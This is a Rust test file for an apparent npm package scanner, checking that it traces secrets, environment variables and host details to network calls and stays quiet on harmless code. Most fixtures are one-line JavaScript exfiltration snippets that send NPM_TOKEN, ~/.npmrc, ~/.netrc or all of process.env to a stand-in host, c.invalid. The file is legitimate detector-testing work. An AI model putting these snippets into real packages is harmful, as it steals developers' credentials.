//! Small packages and the flows that they must show, and others that must show none.

mod clients;
mod code;
mod helpers;
mod kept;

use crate::engine::Engine;

/// The flows of a package as `id source>sink`; `i.js` is its main file.
fn flows(files: &[(&str, &str)]) -> Vec<String> {
    let kind = match files
        .iter()
        .any(|(_, text)| text.contains("import ") || text.contains("export "))
    {
        true => "module",
        false => "commonjs",
    };
    let manifest =
        format!("{{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"i.js\",\"type\":\"{kind}\"}}");
    let all = files
        .iter()
        .copied()
        .chain([("package.json", manifest.as_str())])
        .map(|(path, text)| (path.to_owned(), text.as_bytes().to_vec()));
    let report = Engine::new().scan_tree(all).expect("a package is scanned");
    report
        .flows
        .iter()
        .map(|flow| {
            let end = |target: &Option<String>| target.clone().unwrap_or_default();
            format!(
                "{} {}>{}",
                flow.id,
                end(&flow.source.target),
                end(&flow.sink.target)
            )
        })
        .collect()
}

/// Files, and the flow that must be among those found.
type Case = (&'static [(&'static str, &'static str)], &'static str);

#[track_caller]
fn check(cases: &[Case]) {
    let mut wrong = Vec::new();
    for (files, wanted) in cases {
        let found = flows(files);
        let is_right = match *wanted {
            "" => found.is_empty(),
            wanted => found.iter().any(|flow| flow == wanted),
        };
        if !is_right {
            wrong.push(format!("wants {wanted:?}, has {found:?}\n    {files:?}"));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

const TOKEN: &str = "credential-to-network NPM_TOKEN>https://c.invalid/p";
const NPMRC: &str = "credential-to-network ~/.npmrc>https://c.invalid/p";

#[test]
fn secrets_are_followed_to_the_network() {
    check(&[
        (
            &[(
                "i.js",
                "fetch('https://c.invalid/p', { method: 'POST', body: process.env.NPM_TOKEN })",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "fetch('https://c.invalid/p', { headers: { authorization: `Bearer ${process.env.NPM_TOKEN}` } })",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "const o = { headers: {} }; o.headers.authorization = process.env.NPM_TOKEN; fetch('https://c.invalid/p', o)",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "const h = new Headers(); h.set('a', process.env.NPM_TOKEN); fetch('https://c.invalid/p', { headers: h })",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "const f = new FormData(); f.append('t', process.env.NPM_TOKEN); fetch('https://c.invalid/p', { body: f })",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "const F = require('form-data'); const f = new F(); f.append('t', process.env.NPM_TOKEN); require('axios').post('https://c.invalid/p', f)",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "const u = new URLSearchParams(); u.set('t', process.env.NPM_TOKEN); fetch('https://c.invalid/p', { body: u })",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "require('axios').post('https://c.invalid/p', { t: process.env.NPM_TOKEN })",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "const axios = require('axios'); axios({ url: 'https://c.invalid/p', data: process.env.NPM_TOKEN })",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "const a = require('axios').create({ baseURL: 'https://c.invalid' }); a.post('https://c.invalid/p', process.env.NPM_TOKEN)",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "const { NPM_TOKEN: t } = process.env; fetch('https://c.invalid/p', { body: JSON.stringify({ t }) })",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "const b = Buffer.from(process.env.NPM_TOKEN).toString('base64'); fetch('https://c.invalid/p', { body: b })",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "const r = require('https').request('https://c.invalid/p', { method: 'POST' }); r.write(process.env.NPM_TOKEN); r.end()",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "const x = new XMLHttpRequest(); x.open('POST', 'https://c.invalid/p'); x.send(process.env.NPM_TOKEN)",
            )],
            TOKEN,
        ),
        (
            &[(
                "i.js",
                "fetch(`https://c.invalid/p?t=${process.env.NPM_TOKEN}`)",
            )],
            "credential-to-network NPM_TOKEN>https://c.invalid/p?t=<env:NPM_TOKEN>",
        ),
        (
            &[(
                "i.js",
                "const fs = require('fs'), os = require('os'); fs.readFile(os.homedir() + '/.npmrc', 'utf8', (e, d) => fetch('https://c.invalid/p', { body: d }))",
            )],
            NPMRC,
        ),
        (
            &[(
                "i.js",
                "const fs = require('fs').promises, os = require('os'); fs.readFile(os.homedir() + '/.npmrc').then(d => fetch('https://c.invalid/p', { body: d }))",
            )],
            NPMRC,
        ),
        (
            &[(
                "i.js",
                "const fs = require('fs/promises'), os = require('os'); (async () => { const d = await fs.readFile(os.homedir() + '/.npmrc'); await fetch('https://c.invalid/p', { body: d }) })()",
            )],
            NPMRC,
        ),
        (
            &[(
                "i.js",
                "const fs = require('fs'), os = require('os'); let s = ''; const r = fs.createReadStream(os.homedir() + '/.npmrc'); r.on('data', c => { s += c }); r.on('end', () => fetch('https://c.invalid/p', { body: s }))",
            )],
            NPMRC,
        ),
        (
            &[(
                "i.js",
                "const fs = require('fs'), os = require('os'), https = require('https'); fs.createReadStream(os.homedir() + '/.npmrc').pipe(https.request('https://c.invalid/p'))",
            )],
            NPMRC,
        ),
        (
            &[(
                "i.js",
                "const fs = require('fs'), os = require('os'); const all = []; for (const n of ['.npmrc', '.netrc']) all.push(fs.readFileSync(os.homedir() + '/' + n)); fetch('https://c.invalid/p', { body: all.join('') })",
            )],
            NPMRC,
        ),
        (
            &[(
                "i.js",
                "const fs = require('fs'), os = require('os'); const read = n => fs.readFileSync(os.homedir() + '/' + n); fetch('https://c.invalid/p', { body: read('.npmrc') })",
            )],
            NPMRC,
        ),
        (
            &[(
                "i.js",
                "const fs = require('fs'), os = require('os'); function send(x) { fetch('https://c.invalid/p', { body: x }) } try { send(fs.readFileSync(os.homedir() + '/.npmrc')) } catch {}",
            )],
            NPMRC,
        ),
    ]);
}

#[test]
fn values_cross_files() {
    check(&[
        (
            &[
                ("i.js", "require('./b')(process.env.NPM_TOKEN)"),
                (
                    "b.js",
                    "module.exports = x => fetch('https://c.invalid/p', { body: x })",
                ),
            ],
            TOKEN,
        ),
        (
            &[
                (
                    "i.js",
                    "const { send } = require('./b'); send(process.env.NPM_TOKEN)",
                ),
                (
                    "b.js",
                    "exports.send = x => fetch('https://c.invalid/p', { body: x })",
                ),
            ],
            TOKEN,
        ),
        (
            &[
                ("i.js", "require('./b').send(process.env.NPM_TOKEN)"),
                (
                    "b.js",
                    "function send(x) { return fetch('https://c.invalid/p', { body: x }) } module.exports = { send }",
                ),
            ],
            TOKEN,
        ),
        (
            &[
                (
                    "i.js",
                    "fetch('https://c.invalid/p', { body: require('./b').read() })",
                ),
                ("b.js", "exports.read = () => process.env.NPM_TOKEN"),
            ],
            TOKEN,
        ),
        (
            &[
                (
                    "i.js",
                    "fetch(require('./b').url, { body: process.env.NPM_TOKEN })",
                ),
                ("b.js", "module.exports = { url: 'https://c.invalid/p' }"),
            ],
            TOKEN,
        ),
        (
            &[
                (
                    "i.js",
                    "fetch(require('./b.json').url, { body: process.env.NPM_TOKEN })",
                ),
                ("b.json", "{\"url\":\"https://c.invalid/p\"}"),
            ],
            TOKEN,
        ),
        (
            &[
                (
                    "i.js",
                    "import send from './b.js'; send(process.env.NPM_TOKEN)",
                ),
                (
                    "b.js",
                    "export default function (x) { fetch('https://c.invalid/p', { body: x }) }",
                ),
            ],
            TOKEN,
        ),
        (
            &[
                (
                    "i.js",
                    "import { send } from './b.js'; send(process.env.NPM_TOKEN)",
                ),
                ("b.js", "export * from './c.js'"),
                (
                    "c.js",
                    "export const send = x => fetch('https://c.invalid/p', { body: x })",
                ),
            ],
            TOKEN,
        ),
        (
            &[
                (
                    "i.js",
                    "import * as b from './b.js'; b.s(process.env.NPM_TOKEN)",
                ),
                ("b.js", "export { send as s } from './c.js'"),
                (
                    "c.js",
                    "export function send(x) { fetch('https://c.invalid/p', { body: x }) }",
                ),
            ],
            TOKEN,
        ),
        (
            &[
                (
                    "i.js",
                    "(async () => { const { send } = await import('./b.js'); send(process.env.NPM_TOKEN) })()",
                ),
                (
                    "b.js",
                    "export function send(x) { fetch('https://c.invalid/p', { body: x }) }",
                ),
            ],
            TOKEN,
        ),
        (
            &[
                (
                    "i.js",
                    "const { A } = require('./b'); new A().send(process.env.NPM_TOKEN)",
                ),
                (
                    "b.js",
                    "class A { send(x) { fetch('https://c.invalid/p', { body: x }) } } exports.A = A",
                ),
            ],
            TOKEN,
        ),
        (
            &[
                (
                    "i.js",
                    "const A = require('./b'); const a = new A('https://c.invalid/p'); a.send(process.env.NPM_TOKEN)",
                ),
                (
                    "b.js",
                    "module.exports = class { constructor(u) { this.u = u } send(x) { fetch(this.u, { body: x }) } }",
                ),
            ],
            TOKEN,
        ),
        (
            &[
                (
                    "i.js",
                    "\"use strict\"; var __importDefault = (this && this.__importDefault) || function (m) { return (m && m.__esModule) ? m : { \"default\": m }; }; const b_1 = __importDefault(require(\"./b\")); (0, b_1.default)(process.env.NPM_TOKEN)",
                ),
                (
                    "b.js",
                    "\"use strict\"; Object.defineProperty(exports, \"__esModule\", { value: true }); exports.default = send; function send(x) { fetch('https://c.invalid/p', { body: x }) }",
                ),
            ],
            TOKEN,
        ),
    ]);
}

#[test]
fn the_environment_and_the_host_are_followed() {
    let all = "environment-to-network *>https://c.invalid/p";
    check(&[
        (
            &[(
                "i.js",
                "fetch('https://c.invalid/p', { body: JSON.stringify(process.env) })",
            )],
            all,
        ),
        (
            &[(
                "i.js",
                "fetch('https://c.invalid/p', { body: JSON.stringify({ ...process.env }) })",
            )],
            all,
        ),
        (
            &[(
                "i.js",
                "const e = process.env; fetch('https://c.invalid/p', { body: JSON.stringify(e) })",
            )],
            all,
        ),
        (
            &[(
                "i.js",
                "const o = {}; for (const [k, v] of Object.entries(process.env)) o[k] = v; fetch('https://c.invalid/p', { body: JSON.stringify(o) })",
            )],
            all,
        ),
        (
            &[(
                "i.js",
                "const o = []; for (const k in process.env) o.push(k + process.env[k]); fetch('https://c.invalid/p', { body: o.join() })",
            )],
            all,
        ),
        (
            &[(
                "i.js",
                "const o = Object.keys(process.env).map(k => k + '=' + process.env[k]).join('&'); fetch('https://c.invalid/p', { body: o })",
            )],
            all,
        ),
        (
            &[(
                "i.js",
                "fetch('https://c.invalid/p', { body: require('os').hostname() })",
            )],
            "host-to-network hostname>https://c.invalid/p",
        ),
        (
            &[(
                "i.js",
                "const os = require('os'); const i = { u: os.userInfo().username }; fetch('https://c.invalid/p', { body: JSON.stringify(i) })",
            )],
            "host-to-network user>https://c.invalid/p",
        ),
        (
            &[(
                "i.js",
                "require('dns').lookup(require('os').hostname() + '.c.invalid', () => {})",
            )],
            "host-to-network hostname><?>.c.invalid",
        ),
    ]);
}

#[test]
fn what_harms_nobody_stays_quiet() {
    check(&[
        (&[("i.js", "exports.t = () => process.env.NPM_TOKEN")], ""),
        (
            &[(
                "i.js",
                "const t = process.env.NPM_TOKEN; if (t) fetch('https://c.invalid/p', { body: 'yes' })",
            )],
            "",
        ),
        (
            &[("i.js", "exports.post = (u, b) => fetch(u, { body: b })")],
            "",
        ),
        (
            &[("i.js", "fetch('https://c.invalid/p', { body: 'constant' })")],
            "",
        ),
        (
            &[(
                "i.js",
                "fetch('https://c.invalid/p').then(r => r.json()).then(j => console.log(j))",
            )],
            "",
        ),
        (&[("i.js", "eval('1 + 1')")], ""),
        (&[("i.js", "console.log(require('os').hostname())")], ""),
        (
            &[(
                "i.js",
                "if (process.env.DEBUG) console.log(1); fetch('https://c.invalid/p', { headers: { a: process.version } })",
            )],
            "",
        ),
        (
            &[(
                "i.js",
                "const fs = require('fs'); fs.writeFileSync('/tmp/x', fs.readFileSync(__dirname + '/a'))",
            )],
            "",
        ),
        (
            &[("i.js", "setTimeout(() => fetch('https://c.invalid/p'), 10)")],
            "",
        ),
    ]);
}
